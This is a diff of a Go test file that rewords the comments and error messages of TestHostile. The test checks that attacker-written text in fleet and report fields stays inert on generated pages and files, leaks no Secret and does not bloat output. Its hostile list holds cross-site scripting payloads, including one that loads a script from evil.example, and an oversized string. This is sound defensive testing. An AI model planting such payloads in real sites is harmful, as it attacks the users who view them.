@@ -21,7 +21,7 @@ import (
 	"refract.dev/tree"
 )
 
-// hostile are what somebody may write where they may write, who wants something of who looks at it.
+// hostile are texts of attackers for fields that they can write. Their targets are users who view the fields.
 var hostile = []string{
 	`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `"><script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
 	`'"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<iframe src="javascript:alert(1)">`,
@@ -34,7 +34,7 @@ var hostile = []string{
 	strings.Repeat("A", 1<<20),
 }
 
-// fleetOf is a fleet in which a text stands wherever people may write one.
+// fleetOf returns a fleet with a text in every field that users can write.
 func fleetOf(text string) generate.Fleet {
 	type doc = generate.Document
 	meta := func(name string) doc {
@@ -59,7 +59,7 @@ func fleetOf(text string) generate.Fleet {
 	}}
 }
 
-// reportOf is what a member may have said of an object, which is text of the member's.
+// reportOf returns a report with a text in every field that a member controls.
 func reportOf(name, text string) *status.Object {
 	row := func(cluster string, state refractv1alpha1.ClusterState) refractv1alpha1.ClusterStatus {
 		return refractv1alpha1.ClusterStatus{
@@ -80,8 +80,7 @@ func reportOf(name, text string) *status.Object {
 	}
 }
 
-// TestHostile: whatever somebody has written is text on every page, and in every file; nothing of it runs or is fetched, nothing
-// hides, and no page grows by as much as they wrote.
+// TestHostile: a hostile text remains text on every page and in every file. It does not run, load, or hide anything, and no page grows in proportion to it.
 func TestHostile(t *testing.T) {
 	if len(hostile) < 40 {
 		t.Fatalf("want 40 texts at least, got %d", len(hostile))
@@ -109,9 +108,9 @@ func TestHostile(t *testing.T) {
 		for address, page := range pages {
 			harmless(t, name+" "+address, page, may)
 			if strings.Contains(page, "the-secret-value") || strings.Contains(page, "dGhlLXNlY3JldC12YWx1ZQ") {
-				t.Errorf("%s %s: it tells what the Secret says", name, address)
+				t.Errorf("%s %s: the page shows the value of the Secret", name, address)
 			}
-			const most = 8 << 20 // A policy is shown whole where it can be edited.
+			const most = 8 << 20 // The page for edits shows the whole policy.
 			if len(page) > most {
 				t.Errorf("%s %s: %d bytes", name, address, len(page))
 			}
@@ -137,7 +136,7 @@ func TestHostile(t *testing.T) {
 			}
 			harmless(t, name+" files", file.String(), nil)
 			if strings.Contains(file.String(), "the-secret-value") || file.Len() > 3_000_000 {
-				t.Errorf("%s: files of %d bytes that tell what a Secret says, or are too large", name, file.Len())
+				t.Errorf("%s: a file of %d bytes is too large, or shows the value of a Secret", name, file.Len())
 			}
 		}
 	}
